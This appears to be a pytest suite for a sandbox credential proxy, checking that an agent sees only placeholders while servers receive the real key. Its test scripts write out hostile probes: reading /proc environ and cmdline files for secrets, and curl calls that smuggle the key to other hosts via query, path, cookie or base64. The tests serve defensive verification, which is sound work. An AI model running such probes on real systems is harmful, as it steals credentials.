"""Credentials in real sandboxes: the server gets the key, and the agent never has it.

Each test counts the key where it is meant to arrive, and looks for it everywhere else.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import time
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from nemoclaw_hookspecs import OutgoingRequest

from nemoclaw_core.credentials import sigv4

from .grounds import WAYS, Gated

KEY = "sk-test-4QmZ7rT1xWv9Kd3Lb8Np5Ys2Ga6Hc0Jf"
OTHER_KEY = "sk-test-Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2Rr1Qq0Pp"
USER = pytest.mark.parametrize("caller", ["user"], indirect=True)
"""For what does not hang on who starts nemoclaw."""
FROM_ENV = "[credential.api]\nfrom_env = 'API_KEY'\n"


@pytest.fixture(autouse=True)
def fresh(gated: Gated) -> Iterator[None]:
    gated.outside.seen.clear()
    yield
    # Whatever a test has done: no file that nemoclaw or the agent wrote holds the key.
    for path in (gated.desk.base / "inside").rglob("*"):
        if path.is_file() and path.name != "key":
            assert KEY.encode() not in path.read_bytes(), path


def key_file(gated: Gated, key: str = KEY) -> Path:
    """A file of the user's that holds a key, where no sandbox sees it."""
    file = gated.desk.base / "key"
    file.write_text(key + "\n")
    file.chmod(0o600)
    os.chown(file, gated.desk.user.uid, gated.desk.user.gid)
    return file


def findings(gated: Gated, name: str) -> list[dict[str, Any]]:
    events = gated.events(name)
    return [e for e in events if e["metadata"]["event_code"] == "credential-elsewhere"]


@WAYS
def test_the_server_gets_the_key_and_the_agent_a_placeholder(gated: Gated, way: str) -> None:
    policy = gated.policy(gated.rule("api.test", credential="'api'") + FROM_ENV)
    url = f"https://api.test:{gated.outside.secure}/x"
    python = (
        "import os, urllib.request as u\n"
        f"u.urlopen(u.Request('{url}', headers={{'X-Api-Key': os.environ['API_KEY']}}))"
    )
    script = (
        f'{way}echo $API_KEY; curl -sS -H "Authorization: Bearer $API_KEY" {url}; '
        f'curl -sS -u me:$API_KEY {url}; python3 -c "{python}"; '
        "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n'"
    )
    done = gated.run(policy, script, "--name", "box", API_KEY=KEY)
    shown, *rest = done.stdout.splitlines()
    assert rest[:2] == ["page /x", "page /x"], done.stderr
    assert f"API_KEY={shown}" in rest
    assert shown != KEY
    assert (shown[:8], len(shown)) == ("sk-test-", len(KEY))
    bearer, basic, header = gated.outside.seen
    assert bearer.headers["authorization"] == f"Bearer {KEY}"
    assert base64.b64decode(basic.headers["authorization"].split()[1]) == f"me:{KEY}".encode()
    assert header.headers["x-api-key"] == KEY
    assert KEY not in done.stdout + done.stderr + json.dumps(gated.events("box"))
    assert findings(gated, "box") == []


@USER
def test_each_start_has_placeholders_of_its_own_also_from_the_cache(gated: Gated) -> None:
    policy = gated.policy(gated.rule("api.test", credential="'api'") + FROM_ENV)
    shown = {gated.run(policy, "echo $API_KEY", API_KEY=KEY).stdout for _ in range(2)}
    assert len(shown) == 2


ELSEWHERE = {
    "another host": "https://other.test:{port}/x -H 'X-Api-Key: '$API_KEY",
    "a host of no rule": "http://nowhere.test/x -H 'X-Api-Key: '$API_KEY",
    "another path": "https://judged.test:{port}/b -H 'X-Api-Key: '$API_KEY",
    "the query": "https://judged.test:{port}/a/x?k=$API_KEY",
    "the path": "https://judged.test:{port}/a/$API_KEY",
    "a cookie": "https://judged.test:{port}/a/x -b k=$API_KEY",
    "base64 of it": "https://judged.test:{port}/a/x -b k=$(echo 12$API_KEY | base64 -w0)",
    "per cent": "https://judged.test:{port}/a/x?k=%73${{API_KEY:1}}",
    "another rule's body": 'https://other.test:{port}/q -d \'{{"query":"{{a}}"}}\' -u a:$API_KEY',
}


@USER
def test_a_placeholder_anywhere_else_is_denied_and_found(gated: Gated) -> None:
    """The rule for other.test allows all of these requests but for what is in them."""
    rule = gated.rule(
        "judged.test", credential="'api'", http="[{ methods = ['*'], path = '/a/**' }]"
    )
    beside = gated.rule("judged.test", http="[{ methods = ['*'], path = '/b' }]")
    policy = gated.policy(rule + beside + gated.rule("other.test", tls="'terminate'",
        http="[{ methods = ['*'], path = '/**' }]") + FROM_ENV)  # fmt: skip
    port = gated.outside.secure
    calls = "; ".join(
        f"curl -sS -w ' %{{http_code}}\\n' {each.format(port=port)}" for each in ELSEWHERE.values()
    )
    works = f"; curl -sS https://judged.test:{port}/a/x -H X-Api-Key:\\ $API_KEY"
    done = gated.run(policy, calls + works, "--name", "box", API_KEY=KEY)
    answers = done.stdout.splitlines()
    for what, line in zip(ELSEWHERE, [*answers[0:-1:2]], strict=True):
        assert json.loads(line)["rule"] == "credential-elsewhere", (what, line, done.stderr)
    assert answers[1:-1:2] == [" 403"] * len(ELSEWHERE)
    assert [each.target for each in gated.outside.seen] == ["/a/x"]
    found = findings(gated, "box")
    assert len(found) == len(ELSEWHERE)
    assert {event["unmapped"]["credential"] for event in found} == {"api"}
    assert all(event["is_alert"] and event["action_id"] == 2 for event in found)


@USER
def test_what_is_passed_through_holds_a_placeholder_and_nothing_else(gated: Gated) -> None:
    rules = gated.rule("api.test", credential="'api'") + gated.rule(
        "other.test", tls="'passthrough'"
    )
    policy = gated.policy(rules + FROM_ENV)
    script = (
        "curl -sS --cacert /authority.pem "
        f'https://other.test:{gated.outside.secure}/x -k -H "X-Api-Key: $API_KEY"'
    )
    gated.run(policy, script, API_KEY=KEY)
    (seen,) = gated.outside.seen
    assert KEY not in seen.headers["x-api-key"]


@USER
def test_a_key_is_not_sent_without_tls_unless_the_policy_says_so(gated: Gated) -> None:
    url = f"http://api.test:{gated.outside.plain}/x"
    script = f'curl -sS -H "X-Api-Key: $API_KEY" {url}'
    rule = gated.rule("api.test", credential="'api'")
    done = gated.run(gated.policy(rule + FROM_ENV), script, API_KEY=KEY)
    assert json.loads(done.stdout)["rule"] == "credential"
    assert gated.outside.seen == []
    done = gated.run(gated.policy(rule + FROM_ENV + "plain = true\n"), script, API_KEY=KEY)
    (seen,) = gated.outside.seen
    assert seen.headers["x-api-key"] == KEY


@USER
def test_a_key_is_set_in_header_query_and_body_where_the_policy_says(gated: Gated) -> None:
    file = key_file(gated)
    tables = {
        "api": f"[credential.one]\nfrom_file = '{file}'\nheader = 'X-Key'\nscheme = 'Token'\n",
        "judged": f"[credential.two]\nfrom_file = '{file}'\nquery = 'key'\n",
        "other": f"[credential.three]\nfrom_file = '{file}'\nenv = 'BODY_KEY'\nbody = true\n",
    }
    names = ("one", "two", "three")
    rules = "".join(
        gated.rule(f"{host}.test", credential=f"'{name}'")
        for host, name in zip(tables, names, strict=True)
    )
    policy = gated.policy(rules + "".join(tables.values()))
    port = gated.outside.secure
    script = (
        f"curl -sS https://api.test:{port}/ -H 'x-key: mine'; "
        f"curl -sS 'https://judged.test:{port}/p?a=1&key=mine&b=2'; "
        f"curl -sS https://other.test:{port}/ --json '{{\"key\":\"'$BODY_KEY'\"}}'; "
        f"curl -sS https://other.test:{port}/ -H Transfer-Encoding:\\ chunked -d k=$BODY_KEY"
    )
    done = gated.run(policy, script)
    header, query, body, form = gated.outside.seen
    assert header.headers["x-key"] == f"Token {KEY}", done.stderr
    assert query.target == f"/p?a=1&key={KEY}&b=2"
    assert json.loads(body.body) == {"key": KEY}
    assert form.body == f"k={KEY}".encode()


@USER
def test_a_file_is_read_anew_when_it_changes(gated: Gated) -> None:
    file = key_file(gated)
    policy = gated.policy(
        gated.rule("api.test", credential="'api'") + f"[credential.api]\nfrom_file = '{file}'\n"
    )
    call = f"curl -sS https://api.test:{gated.outside.secure}/x"
    wait = "; touch first; until [ -e second ]; do sleep 0.02; done; "
    running = subprocess.Popen(
        gated.command("run", "-p", policy, "--", "bash", "-c", call + wait + call),
        cwd=gated.desk.folder("inside"),
        env=gated.desk.environment("inside"),
        stdout=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 30
    while not (gated.desk.folder("inside") / "first").exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    key_file(gated, OTHER_KEY)
    (gated.desk.folder("inside") / "second").touch()
    assert running.communicate(timeout=30)[0] == "page /x\n" * 2
    sent = [each.headers["authorization"] for each in gated.outside.seen]
    assert sent == [f"Bearer {KEY}", f"Bearer {OTHER_KEY}"]


@USER
def test_curl_signs_for_aws_with_placeholders_and_the_server_gets_the_real_signature(
    gated: Gated,
) -> None:
    table = "[credential.aws]\ntype = 'aws'\nfrom_env = 'AWS_SECRET_ACCESS_KEY'\n"
    policy = gated.policy(gated.rule("api.test", credential="'aws'") + table)
    url = f"https://api.test:{gated.outside.secure}/bucket/a%20key?x=1"
    script = (
        "curl -sS --aws-sigv4 aws:amz:eu-west-1:s3 -d data "
        f"-u $AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY '{url}'"
    )
    real = {"AWS_ACCESS_KEY_ID": "AKIAREALREALREALREAL", "AWS_SECRET_ACCESS_KEY": "r" * 40}
    done = gated.run(policy, f"{script}; echo $AWS_ACCESS_KEY_ID", **real)
    (seen,) = gated.outside.seen
    sent = seen.headers["authorization"]
    shown = done.stdout.split()[-1]
    assert "Credential=AKIAREALREALREALREAL/" in sent
    assert shown.startswith("AKIA")
    assert shown not in sent
    names = sent.partition("SignedHeaders=")[2].partition(",")[0].split(";")
    fields = tuple((name.encode(), seen.headers[name].encode()) for name in names if name != "host")
    request = OutgoingRequest(
        method="POST", host="api.test", port=gated.outside.secure, target=seen.target.encode(),
        fields=fields, body=seen.body, secure=True,
    )  # fmt: skip
    keys = sigv4.Keys(access_key_id=real["AWS_ACCESS_KEY_ID"], secret_access_key="r" * 40)
    now = datetime.strptime(seen.headers["x-amz-date"], "%Y%m%dT%H%M%SZ")
    again = sigv4.sign(request, keys, region="eu-west-1", service="s3", now=now)
    assert dict(again.fields)[b"authorization"].decode() == sent


@USER
def test_a_token_is_fetched_outside_and_the_agent_needs_none(gated: Gated) -> None:
    port = gated.outside.secure
    table = (
        f"[credential.oauth]\ntype = 'oauth2'\nfrom_env = 'CLIENT_SECRET'\nclient_id = 'me'\n"
        f"token_url = 'https://judged.test:{port}/token'\naddresses = ['127.0.0.1/32']\n"
    )
    rule = gated.rule("api.test", credential="'oauth'")
    call = f"curl -sS https://api.test:{port}/x"
    done = gated.run(gated.policy(rule + table), f"{call}; {call}", CLIENT_SECRET=KEY)
    assert done.stdout == "page /x\n" * 2, done.stderr
    token, first, second = gated.outside.seen
    assert (token.method, token.target) == ("POST", "/token")
    pair = base64.b64decode(token.headers["authorization"].split()[1])
    assert pair == f"me:{KEY}".encode()
    for each in (first, second):
        assert each.headers["authorization"] == "Bearer fetched-by-nemoclaw"
    # Without the ranges the token server's address is one that nothing may be sent to.
    table = table.replace("addresses = ['127.0.0.1/32']\n", "")
    done = gated.run(gated.policy(rule + table), call, "--name", "box", CLIENT_SECRET=KEY)
    assert json.loads(done.stdout)["reason"] == "the credential 'oauth' cannot be had"
    assert "loopback" in gated.events("box")[-3]["status_detail"] + str(gated.events("box"))


@USER
def test_a_plugin_fetches_a_secret(gated: Gated) -> None:
    site = gated.desk.base / "site"
    info = site / "toy_vault-1.0.dist-info"
    info.mkdir(parents=True)
    (site / "toy_vault.py").write_text(
        "from nemoclaw_hookspecs import hookimpl\nNEMOCLAW_API = (1, 0)\n"
        "@hookimpl\ndef fetch_credential(credential):\n"
        "    with open(credential.source.options['at']) as file:\n        return file.read()\n"
    )
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: toy-vault\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[nemoclaw]\nvault = toy_vault\n")
    file = gated.desk.base / "key"
    file.write_text(KEY)
    policy = gated.policy(
        gated.rule("api.test", credential="'api'")
        + f"[credential.api]\nplugin = 'vault'\nat = '{file}'\nenv = 'TOKEN'\n"
        "[plugins]\nenable = ['landlock', 'seccomp', 'netns', 'mounts', 'vault']\n"
    )
    path = ":".join(filter(None, (gated.desk.environment("inside").get("PYTHONPATH"), str(site))))
    call = f"curl -sS https://api.test:{gated.outside.secure}/x -H X-Token:\\ $TOKEN; echo $TOKEN"
    done = gated.run(policy, call, PYTHONPATH=path)
    page, shown = done.stdout.splitlines()
    assert (page, shown[:8], len(shown)) == ("page /x", "sk-test-", len(KEY)), done.stderr
    assert [each.headers["x-token"] for each in gated.outside.seen] == [KEY]
    file.unlink()
    done = gated.run(policy, call, PYTHONPATH=path)
    assert done.returncode == 4
    assert "'vault' failed in fetch_credential: FileNotFoundError" in done.stderr


@USER
def test_a_reload_takes_a_credential_away_and_brings_no_file_that_the_agent_could_read(
    gated: Gated,
) -> None:
    before = gated.policy(gated.rule("api.test", credential="'api'") + FROM_ENV)
    without = gated.policy(gated.rule("api.test", tls="'terminate'",
        http="[{ methods = ['*'], path = '/**' }]"), "without.toml")  # fmt: skip
    readable = gated.policy(
        gated.rule("api.test", credential="'api'") + "[credential.api]\nfrom_file = 'made'\n",
        "readable.toml",
    )
    call = (
        f"curl -sS -o answer https://api.test:{gated.outside.secure}/x "
        "-H X-Api-Key:\\ $API_KEY -w '%{http_code} '; "
    )
    script = f"{call} touch first; until [ -e second ]; do sleep 0.02; done; {call} cat answer"
    work, environment = gated.desk.folder("inside"), gated.desk.environment("inside")
    running = subprocess.Popen(
        gated.command("run", "-p", before, "--name", "box", "--", "bash", "-c", script),
        cwd=work, env={**environment, "API_KEY": KEY}, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    deadline = time.monotonic() + 30
    while not (work / "first").exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    for policy, status in ((readable, 2), (without, 0)):
        done = subprocess.run(
            gated.command("reload", "box", "-p", policy), cwd=work, env=environment,
            capture_output=True, text=True, timeout=30,
        )  # fmt: skip
        assert done.returncode == status, done.stderr
        assert ("credential.from_file" in done.stderr) == bool(status)
    (work / "second").touch()
    first, second, *answer = running.communicate(timeout=30)[0].split(" ", 2)
    assert (first, second) == ("200", "403")
    assert json.loads(answer[0])["reason"]
    assert [each.headers["x-api-key"] for each in gated.outside.seen] == [KEY]


def test_a_program_that_uses_the_python_interface_works_and_is_closed_too(gated: Gated) -> None:
    """Its own files in proc(5) are root's then, and sandboxes start all the same."""
    policy = gated.policy(gated.rule("api.test", credential="'api'") + FROM_ENV)
    call = f"curl -sS https://api.test:{gated.outside.secure}/x -H X-Api-Key:\\ $API_KEY"
    script = (
        "import asyncio, os\n"
        "from nemoclaw_core import Sandbox\n"
        f"call = ['sh', '-c', '{call}; echo $API_KEY']\n"
        f"with Sandbox('{policy}', spare=1) as sandbox:\n"
        "    for _ in range(2):\n"
        "        print(sandbox.run(call, capture_output=True).stdout.decode().split())\n"
        "    print(asyncio.run(sandbox.run_async(['true'])).returncode)\n"
        "    print(os.stat('/proc/self/mem').st_uid, len(os.environ['API_KEY']))\n"
    )
    command = gated.command("IGNORED")
    command = [*command[: -len(gated.desk.user.nemoclaw) - 1], gated.desk.user.nemoclaw[0]]
    done = subprocess.run(
        [*command, "-c", script], cwd=gated.desk.folder("inside"), capture_output=True, text=True,
        env={**gated.desk.environment("inside"), "API_KEY": KEY}, timeout=60,
    )  # fmt: skip
    *pages, status, own = done.stdout.splitlines()
    assert len(pages) == 2, done.stderr
    assert all(line.startswith("['page', '/x', 'sk-test-") for line in pages)
    assert (status, own) == ("0", f"0 {len(KEY)}")
    assert [each.headers["x-api-key"] for each in gated.outside.seen] == [KEY, KEY]
    assert KEY not in done.stdout + done.stderr


def test_no_start_without_the_key_and_none_where_the_agent_could_read_it(gated: Gated) -> None:
    rule = gated.rule("api.test", credential="'api'")
    done = gated.run(gated.policy(rule + FROM_ENV), "true")
    assert done.returncode == 2
    assert "API_KEY is not set" in done.stderr
    assert "credential.api" in done.stderr
    passed = "[policy.default.process]\nenvironment.pass = ['API_KEY']\n"
    done = gated.run(gated.policy(rule + FROM_ENV + passed), "true", API_KEY=KEY)
    assert "would be visible inside" in done.stderr
    done = gated.run(gated.policy(rule + FROM_ENV), "true", "-e", f"API_KEY={KEY}", API_KEY=KEY)
    assert (done.returncode, KEY in done.stderr) == (2, False)
    assert "holds the placeholder" in done.stderr
    inside = gated.desk.folder("inside") / "key"
    inside.write_text(KEY)
    os.chown(inside, gated.desk.user.uid, gated.desk.user.gid)
    table = "[credential.api]\nfrom_file = 'key'\n"
    done = gated.run(gated.policy(rule + table), "cat key; ls -la key")
    assert KEY not in done.stdout


def test_the_memory_of_the_supervisor_is_closed(gated: Gated) -> None:
    """No core dump, no environment and no memory, neither for the agent nor for the user's other
    processes: what is not dumpable is root's in proc(5)."""
    policy = gated.policy(gated.rule("api.test", credential="'api'") + FROM_ENV)
    script = (
        f"curl -sS https://api.test:{gated.outside.secure}/x -H X-Api-Key:\\ $API_KEY; "
        "cat /proc/[0-9]*/environ | tr '\\0' '\\n'; touch first; "
        "until [ -e second ]; do sleep 0.02; done"
    )
    work = gated.desk.folder("inside")
    running = subprocess.Popen(
        gated.command("run", "-p", policy, "--name", "box", "--", "bash", "-c", script),
        cwd=work, env={**gated.desk.environment("inside"), "API_KEY": KEY},
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    deadline = time.monotonic() + 30
    while not (work / "first").exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    told = subprocess.run(
        gated.command("ps", "--json"), cwd=work, env=gated.desk.environment("inside"),
        capture_output=True, text=True, timeout=30,
    )  # fmt: skip
    described = json.loads(told.stdout)
    for process in (described["supervisor"], described["init"]):
        assert os.stat(f"/proc/{process}/mem").st_uid == 0
        if gated.desk.user.uid:
            tried = subprocess.run(
                ["cat", f"/proc/{process}/environ"], capture_output=True,
                **gated.desk.user.arguments(),
            )  # fmt: skip
            assert tried.returncode == 1
    holder = {**gated.desk.environment("inside"), "API_KEY": KEY}
    shown, refused = (
        subprocess.run(
            gated.command("exec", *given, "box", "--", "sh", "-c", "echo API_KEY=$API_KEY"),
            cwd=work, env=holder, capture_output=True, text=True, timeout=30,
        )
        for given in ((), ("--env", f"API_KEY={KEY}"))
    )  # fmt: skip
    (work / "second").touch()
    out, _ = running.communicate(timeout=30)
    assert "page /x" in out
    assert shown.stdout.startswith("API_KEY=sk-test-"), shown.stderr
    assert shown.stdout in out
    assert refused.returncode == 2
    assert "holds the placeholder" in refused.stderr
    assert KEY not in out + shown.stdout + refused.stdout + refused.stderr
